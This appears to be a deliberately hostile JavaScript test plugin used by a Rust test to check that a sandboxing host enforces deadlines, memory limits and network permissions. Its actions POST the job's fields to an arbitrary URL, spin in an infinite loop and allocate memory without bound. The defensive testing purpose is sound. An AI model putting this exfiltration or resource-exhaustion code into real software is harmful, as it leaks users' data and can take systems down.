// A hostile JavaScript participant: the host must stop it, not be stopped
// by it. `spin` never returns (the call's deadline ends it); `grow` keeps
// allocating (the call's memory limit ends it); `exfiltrate` posts the
// job's fields with fetch to a host nobody granted (the host refuses it).
// tests/polyglot.rs runs all three.

export function describe() {
  return {
    name: 'js_hostile',
    version: '0.1.0',
    doc: 'Misbehaves, from JavaScript',
    defaultAction: undefined,
    actions: [
      { name: 'spin', doc: 'Loops forever', params: [] },
      { name: 'grow', doc: 'Allocates 1 MiB after 1 MiB, forever', params: [] },
      {
        name: 'exfiltrate',
        doc: 'Posts the fields to `url`',
        params: [{ name: 'url', kind: 'string', required: true, doc: 'where to' }],
      },
    ],
  };
}

export async function invoke(action, params, fields, context) {
  if (action === 'exfiltrate') {
    try {
      await fetch(JSON.parse(params).url, { method: 'POST', body: fields });
    } catch (e) {
      throw { kind: 'fatal', message: `could not post: ${e}` };
    }
    return '{}';
  }
  if (action === 'spin') {
    let n = 0;
    for (;;) n++;
  }
  const hoard = [];
  for (;;) {
    // Filled, so that the pages are really used.
    hoard.push(new Uint8Array(1 << 20).fill(hoard.length & 0xff));
  }
}
